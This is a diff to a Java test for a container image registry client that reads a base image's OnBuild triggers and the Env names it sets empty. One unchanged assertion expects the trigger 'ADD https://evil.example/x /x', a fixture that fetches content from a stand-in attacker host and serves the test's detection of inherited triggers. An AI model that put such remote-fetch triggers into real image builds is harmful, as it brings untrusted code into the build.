@@ -74,7 +74,13 @@ class ImageRegistryTriggersTest {
 
     /** Stores an image (config with these triggers, manifest) under repo:tag; returns the manifest digest. */
     private String image(String repo, String tag, String onBuild) {
-        byte[] config = ("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Env\":[\"PATH=/bin\"]"
+        return image(repo, tag, onBuild, "[\"PATH=/bin\"]");
+    }
+
+    /** As above with this config Env (JSON, null: none). */
+    private String image(String repo, String tag, String onBuild, String env) {
+        byte[] config = ("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{"
+                + (env == null ? "\"User\":\"1\"" : "\"Env\":" + env)
                 + (onBuild == null ? "" : ",\"OnBuild\":" + onBuild) + "}}").getBytes(StandardCharsets.UTF_8);
         String configDigest = ImageRegistry.sha256(config);
         content.put(repo + "/blobs/" + configDigest, Map.entry("application/octet-stream", config));
@@ -97,6 +103,36 @@ class ImageRegistryTriggersTest {
         assertThat(client().onBuildTriggers(address + "/base/busybox:1@" + digest))
                 .containsExactly("ADD https://evil.example/x /x", "RUN id");
         assertThat(client().onBuildTriggers(address + "/base/plain")).isEmpty();
+    }
+
+    /**
+     * The names the config's Env sets to an empty value come from the same read as the triggers (one manifest and one
+     * blob request, one cache entry): {@code X=} and {@code X} (BuildKit reads it as empty) count, {@code X=nonempty}
+     * does not; no Env, none; an Env that is not a list of text fails closed.
+     */
+    @Test
+    void readsTheNamesTheEnvSetsEmptyWithTheTriggers() {
+        image("base/env", "1", "[\"RUN id\"]", "[\"PATH=/bin\",\"EMPTY=\",\"BARE\",\"X=nonempty\",\"EQ==\"]");
+        image("base/noenv", "1", null, null);
+        image("base/badenv", "1", null, "\"EMPTY=\"");
+        image("base/badentry", "1", null, "[1]");
+        ImageRegistry registry = new ImageRegistry(properties(), JsonMapper.builder().build(), Duration.ofSeconds(10),
+                () -> 0L, Runnable::run);
+
+        ImageRegistry.BaseConfig config = registry.baseConfig(address + "/base/env:1");
+        assertThat(config.triggers()).containsExactly("RUN id");
+        assertThat(config.emptyEnv()).containsExactlyInAnyOrder("EMPTY", "BARE");
+        int reads = requests.size();
+        assertThat(reads).as("manifest and config blob").isEqualTo(2);
+        assertThat(registry.onBuildTriggers(address + "/base/env:1")).containsExactly("RUN id");
+        assertThat(registry.baseConfig(address + "/base/env:1").emptyEnv()).containsExactlyInAnyOrder("EMPTY", "BARE");
+        assertThat(requests).as("one cache entry for both").hasSize(reads);
+
+        assertThat(client().baseConfig(address + "/base/noenv:1").emptyEnv()).isEmpty();
+        assertThatThrownBy(() -> client().baseConfig(address + "/base/badenv:1"))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("Env that is not a list");
+        assertThatThrownBy(() -> client().baseConfig(address + "/base/badentry:1"))
+                .isInstanceOf(UncheckedIOException.class).hasMessageContaining("not text");
     }
 
     @Test
